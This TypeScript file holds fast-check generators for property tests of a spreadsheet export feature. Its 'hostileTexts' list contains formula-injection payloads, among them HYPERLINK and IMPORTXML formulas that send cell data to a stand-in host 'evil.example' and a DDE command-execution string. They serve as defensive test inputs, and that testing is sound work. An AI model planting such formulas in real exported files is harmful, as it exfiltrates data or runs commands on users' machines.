import fc from 'fast-check';
import type { ExportView } from '../../renderer/export/export-origin.ts';
import {
  type ExportCell,
  type ExportTable,
  numberColumn,
  tableOf,
  textColumn,
  timeColumn,
} from '../../renderer/export/export-table.ts';
import type { Sections } from '../../shared/contract/sections.ts';
import { STORY_MS, storyPicture } from './story.ts';

/** Texts that spreadsheets have taken for formulas, commands or other cells. */
export const hostileTexts: readonly string[] = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1',
  '"\t"=1+1',
  "'=1+1",
  '\ufeff=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
  'checkout;=1+1',
  'checkout;"=1+1"',
  'checkout\t=1+1',
  'checkout\r\n=1+1',
  'a "quoted", \'odd\'; text',
  '\u202e=1+1',
  '\u0000=1+1',
];

/** Anything a source may have written. */
export const anyText = fc.oneof(
  fc.constantFrom(...hostileTexts),
  fc.string({ unit: 'binary' }),
  fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ';', ',', '"', "'", ' ', 'a') }),
);

const anyNumber = fc.oneof(fc.double({ noNaN: true, noDefaultInfinity: true }), fc.integer());
const anyTimeMs = fc.integer({ min: 0, max: 4_102_444_800_000 });
const cellOf = { text: anyText, number: anyNumber, time: anyTimeMs } as const;
const makers = { text: textColumn, time: timeColumn } as const;

/** Tables of any shape, every kind of cell and every hostile text in them, empty cells too. */
export const anyTable: fc.Arbitrary<ExportTable> = fc
  .array(fc.tuple(fc.constantFrom('text', 'number', 'time'), anyText), { minLength: 1, maxLength: 6 })
  .chain((heads) => {
    const columns = heads.map(([kind, title], index) => {
      const of = (row: readonly ExportCell[]): never => row[index] as never;
      return kind === 'number'
        ? numberColumn(`k${index}`, title, index % 2 === 0 ? 'seconds' : null, of)
        : makers[kind](`k${index}`, title, of);
    });
    const row = fc.tuple(
      ...heads.map(([kind]) => fc.option<ExportCell>(cellOf[kind], { nil: null, freq: 4 })),
    );
    return fc
      .array(row, { maxLength: 12 })
      .map((rows) => tableOf({ what: 'any', title: 'Any table' }, columns, rows));
  });

/** The story as somebody sees it who exports it. */
export function storyView(overrides: Partial<Sections> = {}, nowMs = STORY_MS): ExportView {
  return { picture: storyPicture(overrides, nowMs), nowMs };
}

/** The rows of a table as objects by the keys of its columns. */
export function records(table: ExportTable): readonly Readonly<Record<string, ExportCell>>[] {
  return table.rows.map((row) =>
    Object.fromEntries(table.columns.map(({ key }, index) => [key, row[index] ?? null])),
  );
}
